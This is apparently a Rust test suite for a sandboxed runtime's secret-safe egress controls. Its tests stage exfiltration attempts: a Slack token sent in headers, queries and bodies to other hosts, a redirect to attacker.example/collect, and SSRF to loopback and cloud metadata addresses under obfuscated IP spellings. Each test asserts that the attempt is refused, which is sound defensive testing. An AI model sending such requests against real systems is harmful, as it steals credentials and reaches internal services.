//! Secret-safe egress: each attack is one test, and each proves the real
//! secret never leaves for a host that does not own it, never reaches the
//! step, and never lands in what is stored or printed.

use crate::support::{GOOD_TOKEN, PlainServer, StandIn, guest, load};
use serde_json::{Value, json};
use std::net::IpAddr;
use std::sync::Arc;
use stephost::audit::{AuditEvent, read_entries, verify};
use stephost::secrets::PLACEHOLDER_PREFIX;
use stephost::{EgressConfig, HostPolicy, Runtime, RuntimeConfig, StepConfig, StepInput, StepOutcome};

/// A runtime whose egress reaches the Slack and GitHub stand-ins.
pub(crate) struct World {
    pub(crate) slack: StandIn,
    pub(crate) runtime: Runtime,
    audit: tempfile::TempDir,
}

impl World {
    pub(crate) async fn new(extra_hosts: &[(&str, &str)]) -> Self {
        let slack = StandIn::start(&["slack.com", "api.github.com", "attacker.example"]).await;
        let mut egress = slack.egress();
        egress.hosts =
            extra_hosts.iter().map(|(n, ip)| (n.to_string(), ip.parse::<IpAddr>().unwrap())).collect();
        let audit = tempfile::tempdir().unwrap();
        let runtime = Runtime::new(RuntimeConfig {
            egress,
            max_concurrent_runs: 16,
            audit: Some(crate::audit::keyed_log(audit.path())),
            ..RuntimeConfig::default()
        })
        .unwrap();
        Self { slack, runtime, audit }
    }

    /// Runs the probe with Slack connected (real token), the given allowed
    /// hosts, and `actions`.
    pub(crate) async fn probe(&self, allowed: &[&str], actions: Value) -> StepOutcome {
        let input = StepInput {
            auths: vec![(
                "slack".into(),
                vec![("oauth_access_token".into(), GOOD_TOKEN.into()), ("oauth_uid".into(), "U1".into())],
            )],
            ..Default::default()
        };
        self.probe_with(allowed, actions, input).await
    }

    /// Runs the probe with `input`'s secrets (and `actions`).
    pub(crate) async fn probe_with(&self, allowed: &[&str], actions: Value, input: StepInput) -> StepOutcome {
        let input = StepInput {
            step_name: "probe".into(),
            event: json!({ "actions": actions }).to_string().into(),
            ..input
        };
        let config =
            StepConfig { policy: Arc::new(HostPolicy::parse(allowed).unwrap()), ..StepConfig::default() };
        let probe = load(&self.runtime, "probe");
        let outcome = self.runtime.run(&probe, input, &config).await;
        assert_no_real_secret_in(&outcome, &self.audit_text());
        outcome
    }

    pub(crate) fn audit_text(&self) -> String {
        std::fs::read_to_string(self.audit.path().join("audit.jsonl")).unwrap_or_default()
    }

    /// Requests the stand-in saw carrying the real token anywhere.
    pub(crate) fn leaked_to(&self, host: &str) -> usize {
        self.slack
            .requests()
            .iter()
            .filter(|r| r.host.starts_with(host))
            .filter(|r| format!("{r:?}{}", String::from_utf8_lossy(&r.body)).contains(GOOD_TOKEN))
            .count()
    }
}

/// The real token, in clear or encoded, is nowhere in what was produced,
/// stored or printed.
pub(crate) fn assert_no_real_secret_in(outcome: &StepOutcome, audit: &str) {
    use base64::Engine;
    let everything = serde_json::to_string(outcome).unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(GOOD_TOKEN);
    for form in [GOOD_TOKEN.to_string(), hex::encode(GOOD_TOKEN), b64[..40].to_string()] {
        assert!(
            !everything.contains(&form),
            "the real token leaked into the outcome as {form}: {everything}"
        );
        assert!(!audit.contains(&form), "the real token leaked into the audit log as {form}");
    }
}

pub(crate) fn http_result(outcome: &StepOutcome, i: usize) -> Value {
    outcome.result.as_ref().expect("the probe itself succeeds")["http"][i].clone()
}

pub(crate) fn refused_reason(outcome: &StepOutcome) -> String {
    let record = outcome.egress.iter().find(|r| !r.allowed).expect("a refused request was recorded");
    record.error.clone().unwrap()
}

pub(crate) const SEALED: &str = "{auth:slack.oauth_access_token}";

#[tokio::test]
async fn slack_token_is_swapped_in_for_slack_while_the_step_only_sees_a_placeholder() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &[],
            json!([
                { "do": "stdout", "text": format!("my token is {SEALED}") },
                { "do": "http", "method": "POST", "url": "https://slack.com/api/chat.postMessage",
                  "headers": { "authorization": format!("Bearer {SEALED}"), "content-type": "application/json" },
                  "body": "{\"channel\":\"#general\",\"text\":\"Hello, world!\"}" },
            ]),
        )
        .await;

    assert_eq!(http_result(&outcome, 0)["status"], 200);
    assert_eq!(world.leaked_to("slack.com"), 1, "Slack got the real token");
    let logged = &outcome.logs[0].text;
    assert!(logged.starts_with(&format!("my token is {PLACEHOLDER_PREFIX}")), "{logged}");
    let record = &outcome.egress[0];
    assert_eq!(record.secrets, ["slack.oauth_access_token"]);
    assert!(record.bytes_out > 0 && record.bytes_in > 0);
}

#[tokio::test]
async fn secret_in_a_header_to_another_host_is_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &["https://api.github.com"],
            json!([{ "do": "http", "url": "https://api.github.com/user",
                     "headers": { "authorization": format!("Bearer {SEALED}") } }]),
        )
        .await;
    assert!(http_result(&outcome, 0)["error"].as_str().unwrap().contains("refused"));
    assert!(
        refused_reason(&outcome)
            .contains("secret slack.oauth_access_token may not be sent to https://api.github.com:443")
    );
    assert!(world.slack.requests().is_empty(), "nothing was sent");
}

#[tokio::test]
async fn secret_in_a_query_string_to_another_host_is_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &["https://api.github.com"],
            json!([{ "do": "http", "url": format!("https://api.github.com/user?t={SEALED}") }]),
        )
        .await;
    assert!(refused_reason(&outcome).contains("in query:t"));
    assert!(world.slack.requests().is_empty());
}

#[tokio::test]
async fn secret_in_a_body_to_another_host_is_refused() {
    let world = World::new(&[]).await;
    let padding = "p".repeat(100_000);
    let outcome = world
        .probe(
            &["https://api.github.com"],
            json!([{ "do": "http", "method": "POST", "url": "https://api.github.com/gists",
                     "body": format!("{padding}{SEALED}{padding}") }]),
        )
        .await;
    assert!(refused_reason(&outcome).contains("in body"), "{:?}", outcome.egress);
    assert_eq!(world.leaked_to("api.github.com"), 0);
}

#[tokio::test]
async fn secret_in_an_undeclared_place_on_its_own_host_is_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &[],
            json!([{ "do": "http", "url": format!("https://slack.com/api/auth.test?token={SEALED}") }]),
        )
        .await;
    assert!(refused_reason(&outcome).contains("may not be sent to https://slack.com:443 in query:token"));
    assert!(world.slack.requests().is_empty());
}

#[tokio::test]
async fn a_redirect_to_an_attacker_is_not_followed_and_following_it_by_hand_is_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &["https://attacker.example"],
            json!([
                { "do": "http", "url": "https://slack.com/redirect-to-attacker",
                  "headers": { "authorization": format!("Bearer {SEALED}") } },
                { "do": "http", "url": "https://attacker.example/collect",
                  "headers": { "authorization": format!("Bearer {SEALED}") } },
            ]),
        )
        .await;
    assert_eq!(http_result(&outcome, 0)["status"], 302, "the step sees the redirect");
    assert!(http_result(&outcome, 1)["error"].as_str().unwrap().contains("refused"));
    assert_eq!(world.slack.requests().len(), 1, "only the first request went out");
    assert_eq!(world.leaked_to("attacker.example"), 0);
}

#[tokio::test]
async fn an_echoed_secret_comes_back_as_its_placeholder() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &[],
            json!([{ "do": "http", "url": "https://slack.com/echo-headers",
                            "headers": { "authorization": format!("Bearer {SEALED}") } }]),
        )
        .await;
    let echoed = http_result(&outcome, 0);
    let body: Value = serde_json::from_str(echoed["body"].as_str().unwrap()).unwrap();
    assert!(body["authorization"].as_str().unwrap().starts_with(&format!("Bearer {PLACEHOLDER_PREFIX}")));
    let header =
        echoed["headers"].as_array().unwrap().iter().find(|h| h[0] == "x-echo-authorization").unwrap();
    assert!(header[1].as_str().unwrap().starts_with(&format!("Bearer {PLACEHOLDER_PREFIX}")));
    assert_eq!(world.leaked_to("slack.com"), 1, "the API itself got the real token");
}

#[tokio::test]
async fn a_real_secret_the_step_obtains_is_redacted_from_logs_exports_return_value_and_errors() {
    let world = World::new(&[]).await;
    let get_real = json!({ "do": "http", "url": "https://slack.com/reflect-reversed", "save": "real", "reverse": true,
                           "headers": { "authorization": format!("Bearer {SEALED}") } });
    let outcome = world
        .probe(
            &[],
            json!([
                get_real,
                { "do": "stdout", "text": "stolen: {var:real}" },
                { "do": "stderr", "text": "{var:real}" },
                { "do": "export", "name": "stolen", "value": "{var:real}" },
            ]),
        )
        .await;
    let placeholder =
        outcome.result.as_ref().unwrap()["auths"]["slack"]["oauth_access_token"].as_str().unwrap();
    assert_eq!(outcome.result.as_ref().unwrap()["vars"]["real"], placeholder, "return value redacted");
    assert_eq!(outcome.logs[0].text, format!("stolen: {placeholder}"));
    assert_eq!(outcome.logs[1].text, placeholder);
    assert_eq!(outcome.exports[0].1, json!(placeholder));

    let failed = world.probe(&[], json!([get_real, { "do": "fail", "message": "oops {var:real}" }])).await;
    let error = failed.result.unwrap_err().to_string();
    assert!(error.contains(&format!("oops {PLACEHOLDER_PREFIX}")), "{error}");
}

#[tokio::test]
async fn a_real_secret_the_step_obtains_cannot_be_sent_elsewhere() {
    let world = World::new(&[]).await;
    let server = PlainServer::start().await;
    let outcome = world
        .probe(
            &[&format!("http://127.0.0.1:{}", server.addr.port())],
            json!([
                { "do": "http", "url": "https://slack.com/reflect-reversed", "save": "real", "reverse": true,
                  "headers": { "authorization": format!("Bearer {SEALED}") } },
                { "do": "http", "method": "POST", "url": server.url("/collect"), "body": "got {var:real}" },
            ]),
        )
        .await;
    assert!(refused_reason(&outcome).contains("secret slack.oauth_access_token may not be sent"));
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn dns_answers_pointing_an_allowed_name_inside_are_refused() {
    let server = PlainServer::start().await;
    let port = server.addr.port();
    let world =
        World::new(&[("internal.example", "127.0.0.1"), ("metadata.example", "169.254.169.254")]).await;
    let outcome = world
        .probe(
            &[&format!("http://internal.example:{port}"), "http://metadata.example"],
            json!([
                { "do": "http", "url": format!("http://internal.example:{port}/admin") },
                { "do": "http", "url": "http://metadata.example/latest/meta-data/" },
            ]),
        )
        .await;
    let reasons: Vec<String> = outcome.egress.iter().map(|r| r.error.clone().unwrap_or_default()).collect();
    assert!(reasons[0].contains("internal.example resolved to 127.0.0.1, a loopback address"), "{reasons:?}");
    assert!(reasons[1].contains("metadata.example resolved to 169.254.169.254, a cloud metadata address"));
    assert!(outcome.egress.iter().all(|r| !r.allowed));
    assert!(server.requests().is_empty(), "nothing reached the internal server");
}

#[tokio::test]
async fn other_spellings_of_internal_addresses_are_refused_unless_named_exactly() {
    let server = PlainServer::start().await;
    let port = server.addr.port();
    let world = World::new(&[]).await;
    let spellings = [
        format!("http://2130706433:{port}/"),
        format!("http://0x7f.0.0.1:{port}/"),
        format!("http://0177.0.0.1:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        "http://[::ffff:169.254.169.254]/".to_string(),
        "http://169.254.169.254/".to_string(),
    ];
    let actions: Vec<Value> = spellings.iter().map(|url| json!({ "do": "http", "url": url })).collect();
    let outcome = world.probe(&["http://*:*"], json!(actions)).await;
    assert_eq!(outcome.egress.len(), spellings.len());
    for (record, url) in outcome.egress.iter().zip(&spellings) {
        assert!(!record.allowed, "{url} must be refused");
        assert!(
            record.error.as_deref().unwrap().contains("only an allowed host naming it exactly"),
            "{record:?}"
        );
    }
    assert!(server.requests().is_empty());

    let named = world
        .probe(&[&format!("http://127.0.0.1:{port}")], json!([{ "do": "http", "url": server.url("/ok") }]))
        .await;
    assert_eq!(http_result(&named, 0)["status"], 200, "a policy naming the address exactly may reach it");
}

#[tokio::test]
async fn a_placeholder_from_another_run_or_a_guess_is_worthless() {
    let world = World::new(&[]).await;
    let first = world.probe(&[], json!([])).await;
    let old = first.result.unwrap()["auths"]["slack"]["oauth_access_token"].as_str().unwrap().to_string();
    let guess = format!("{PLACEHOLDER_PREFIX}{}", "0".repeat(32));
    for stale in [old, guess] {
        let input = StepInput {
            step_name: "probe".into(),
            event: json!({ "actions": [{ "do": "http", "url": "https://slack.com/api/auth.test",
                                         "headers": { "authorization": format!("Bearer {stale}") } }] })
            .to_string()
            .into(),
            auths: vec![("slack".into(), vec![("oauth_access_token".into(), GOOD_TOKEN.into())])],
            ..Default::default()
        };
        let probe = load(&world.runtime, "probe");
        let outcome = world.runtime.run(&probe, input, &StepConfig::default()).await;
        assert_eq!(outcome.egress[0].secrets, Vec::<String>::new(), "nothing was swapped in");
    }
    assert_eq!(world.leaked_to("slack.com"), 0, "Slack only ever saw the stale placeholders");
}

#[tokio::test]
async fn a_secret_environment_variable_is_sealed_and_sent_only_to_the_steps_hosts() {
    let world = World::new(&[]).await;
    let server = PlainServer::start().await;
    let own = format!("http://127.0.0.1:{}", server.addr.port());
    let input = StepInput {
        step_name: "probe".into(),
        event: json!({ "actions": [
            { "do": "http", "url": server.url("/own"), "headers": { "x-api-key": "{env:API_KEY}" } },
            { "do": "http", "url": "https://slack.com/api/auth.test", "headers": { "x-api-key": "{env:API_KEY}" } },
            // The SDK writes bodies in 4096-byte chunks: this placeholder
            // straddles the first two.
            { "do": "http", "method": "POST", "url": server.url("/body"), "body": format!("{}{{env:API_KEY}}!", "b".repeat(4080)) },
        ]})
        .to_string().into(),
        secret_env: vec![("API_KEY".into(), "custom-secret-value".into())],
        env: vec![("PLAIN".into(), "visible".into())],
        // Slack's hosts are allowed through its account, not by the step.
        auths: vec![("slack".into(), vec![("oauth_uid".into(), "U1".into())])],
        ..Default::default()
    };
    let config =
        StepConfig { policy: Arc::new(HostPolicy::parse(&[own.as_str()]).unwrap()), ..StepConfig::default() };
    let probe = load(&world.runtime, "probe");
    let outcome = world.runtime.run(&probe, input, &config).await;
    let seen = outcome.result.as_ref().unwrap();
    assert!(seen["env"]["API_KEY"].as_str().unwrap().starts_with(PLACEHOLDER_PREFIX));
    assert_eq!(seen["env"]["PLAIN"], "visible");
    assert_eq!(server.requests()[0].header("x-api-key"), Some("custom-secret-value"));
    assert_eq!(outcome.egress[0].secrets, ["env.API_KEY"]);
    let body = &server.requests()[1].body;
    assert_eq!(&body[4080..], b"custom-secret-value!", "swapped across the chunk boundary");
    assert_eq!(outcome.egress[2].secrets, ["env.API_KEY"]);
    assert!(!outcome.egress[1].allowed, "slack.com does not get the step's custom secret");
    assert!(
        outcome.egress[1]
            .error
            .as_deref()
            .unwrap()
            .contains("secret env.API_KEY may not be sent to https://slack.com")
    );
    assert!(!serde_json::to_string(&outcome).unwrap().contains("custom-secret-value"));
}

#[tokio::test]
async fn the_audit_log_records_requests_and_secret_reads_and_verify_catches_an_edit() {
    let world = World::new(&[]).await;
    world
        .probe(
            &["https://api.github.com"],
            json!([
                { "do": "http", "url": "https://slack.com/api/auth.test?team=T1", "headers": { "authorization": format!("Bearer {SEALED}") } },
                { "do": "http", "url": "https://api.github.com/user", "headers": { "authorization": format!("Bearer {SEALED}") } },
            ]),
        )
        .await;
    let path = world.audit.path().join("audit.jsonl");
    let entries = read_entries(&path).unwrap();
    assert!(entries.iter().any(|e| matches!(&e.event, AuditEvent::SecretRead { app, key, .. } if app == "slack" && key == "oauth_access_token")));
    let requests: Vec<_> = entries
        .iter()
        .filter_map(|e| match &e.event {
            AuditEvent::Request(r) => Some((e, r)),
            _ => None,
        })
        .collect();
    let (entry, swapped) = requests[0];
    assert_eq!((entry.step.as_str(), swapped.path.as_str()), ("probe", "/api/auth.test?team=***"));
    assert_eq!(
        (swapped.allowed, swapped.status, swapped.secrets.clone()),
        (true, Some(200), vec!["slack.oauth_access_token".to_string()])
    );
    assert!(!requests[1].1.allowed);
    assert_eq!(verify(&path, &crate::audit::key_of(world.audit.path())).unwrap(), entries.len());

    let listed = crate::support::stephost_command()
        .args(["--data", world.audit.path().to_str().unwrap(), "audit", "list", "--refused"])
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert_eq!(listed.lines().count(), 1, "{listed}");
    assert!(
        listed.contains("GET https://api.github.com:443/user -> REFUSED: secret slack.oauth_access_token"),
        "{listed}"
    );
    let by_app = crate::support::stephost_command()
        .args(["--data", world.audit.path().to_str().unwrap(), "audit", "list", "--app", "slack", "--json"])
        .output()
        .unwrap();
    let github = crate::support::stephost_command()
        .args(["--data", world.audit.path().to_str().unwrap(), "audit", "list", "--app", "github"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&by_app.stdout).lines().count(),
        entries.len(),
        "every record here involves slack's secret"
    );
    assert_eq!(String::from_utf8_lossy(&github.stdout), "", "none involves github's");

    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replacen("api.github.com", "api.glthub.com", 1)).unwrap();
    let out = crate::support::stephost_command()
        .args(["--data", world.audit.path().to_str().unwrap(), "audit", "verify"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("the line was edited"), "{stderr}");
}

#[test]
fn the_cli_never_prints_or_stores_a_secret_it_was_given() {
    let data = tempfile::tempdir().unwrap();
    let probe = guest("probe");
    let out = crate::support::stephost_command()
        .args(["--data", data.path().to_str().unwrap(), "run", probe.to_str().unwrap(), "--json"])
        .args([
            "--auth",
            &format!("slack.oauth_access_token={GOOD_TOKEN}"),
            "--secret-env",
            "K=another-secret-1234",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let printed = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(printed.contains(PLACEHOLDER_PREFIX));
    for secret in [GOOD_TOKEN, "another-secret-1234"] {
        assert!(!printed.contains(secret), "printed {secret}");
    }
    crate::support::assert_not_stored(data.path(), &[GOOD_TOKEN, "another-secret-1234"]);
}

#[test]
fn unknown_apps_and_fields_are_refused_by_the_cli() {
    let probe = guest("probe");
    for (flag, expected) in [
        (
            "nosuchapp.key=v",
            "app `nosuchapp` is not in the app catalog (known: airtable, anthropic, discord, github",
        ),
        ("slack.nosuchfield=v", "app `slack` has no field `nosuchfield`"),
    ] {
        let data = tempfile::tempdir().unwrap();
        let out = crate::support::stephost_command()
            .args(["--data", data.path().to_str().unwrap()])
            .args(["run", probe.to_str().unwrap(), "--auth", flag])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(expected),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[tokio::test]
async fn a_declared_content_length_cannot_cut_or_expose_a_swapped_secret() {
    let world = World::new(&[]).await;
    let server = PlainServer::start().await;
    let own = format!("http://127.0.0.1:{}", server.addr.port());
    let input = StepInput {
        step_name: "probe".into(),
        event: json!({ "actions": [{
            "do": "http", "method": "POST", "url": server.url("/post"),
            // The length of the body as the step wrote it, with the placeholder.
            "headers": { "content-length": "{var:len}" }, "body": "k={env:API_KEY}",
        }]})
        .to_string()
        .replace("{var:len}", &(2 + stephost::secrets::PLACEHOLDER_LEN).to_string())
        .into(),
        secret_env: vec![("API_KEY".into(), "short".into())],
        ..Default::default()
    };
    let config =
        StepConfig { policy: Arc::new(HostPolicy::parse(&[own.as_str()]).unwrap()), ..StepConfig::default() };
    let outcome = world.runtime.run(&load(&world.runtime, "probe"), input, &config).await;
    assert_eq!(http_result(&outcome, 0)["status"], 200, "{:?}", outcome.egress);
    assert_eq!(server.requests()[0].body, b"k=short", "the whole swapped body, with its own length");
}

#[tokio::test]
async fn responses_are_fetched_unencoded_and_an_encoded_one_is_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &[],
            json!([
                { "do": "http", "url": "https://slack.com/echo-headers",
                  "headers": { "accept-encoding": "gzip, br", "range": "bytes=1-" } },
                { "do": "http", "url": "https://slack.com/gzip" },
            ]),
        )
        .await;
    let echoed: Value = serde_json::from_str(http_result(&outcome, 0)["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["accept-encoding"], "identity");
    assert!(echoed.get("range").is_none());
    assert!(http_result(&outcome, 1)["error"].is_string());
    assert!(
        outcome.egress[1]
            .error
            .as_deref()
            .unwrap()
            .contains("encoded (content-encoding: gzip) and cannot be scanned")
    );
}

#[tokio::test]
async fn trailing_dots_and_other_ports_of_pinned_names_are_refused() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &["https://*:*"],
            json!([
                { "do": "http", "url": "https://slack.com./api/auth.test", "headers": { "authorization": format!("Bearer {SEALED}") } },
                { "do": "http", "url": "https://slack.com:8443/api/auth.test" },
            ]),
        )
        .await;
    let reasons: Vec<&str> = outcome.egress.iter().map(|r| r.error.as_deref().unwrap_or_default()).collect();
    assert_eq!(
        reasons,
        ["host names ending in a dot are not allowed", "slack.com is pinned for port 443 only"]
    );
    assert!(world.slack.requests().is_empty());
}

#[tokio::test]
async fn trying_to_send_a_real_secret_elsewhere_closes_the_runs_egress() {
    let world = World::new(&[]).await;
    let outcome = world
        .probe(
            &["https://api.github.com"],
            json!([
                { "do": "http", "url": "https://slack.com/reflect-reversed", "save": "real", "reverse": true,
                  "headers": { "authorization": format!("Bearer {SEALED}") } },
                { "do": "http", "url": "https://api.github.com/user?guess={var:real}" },
                { "do": "http", "url": "https://slack.com/api/auth.test", "headers": { "authorization": format!("Bearer {SEALED}") } },
            ]),
        )
        .await;
    assert!(refused_reason(&outcome).starts_with("the real value of secret slack.oauth_access_token"));
    assert!(http_result(&outcome, 2)["error"].as_str().unwrap().contains("refused"), "egress is closed");
    assert_eq!(world.slack.requests().len(), 1, "only the reflecting request went out");
}

#[tokio::test]
async fn requests_beyond_the_per_run_cap_are_refused_with_a_note() {
    let server = PlainServer::start().await;
    let runtime = crate::support::runtime_with(
        EgressConfig { max_requests_per_run: 3, ..EgressConfig::default() },
        None,
    );
    let allowed = format!("http://127.0.0.1:{}", server.addr.port());
    let actions: Vec<Value> = (0..5).map(|_| json!({ "do": "http", "url": server.url("/n") })).collect();
    let input = StepInput {
        step_name: "probe".into(),
        event: json!({ "actions": actions }).to_string().into(),
        ..Default::default()
    };
    let config = StepConfig {
        policy: Arc::new(HostPolicy::parse(&[allowed.as_str()]).unwrap()),
        ..StepConfig::default()
    };
    let outcome = runtime.run(&load(&runtime, "probe"), input, &config).await;
    assert_eq!(server.requests().len(), 3);
    assert!(http_result(&outcome, 4)["error"].as_str().unwrap().contains("refused"));
    assert!(outcome.logs.iter().any(|l| l.text == "[stephost] refused: the run made more than 3 requests"));
}
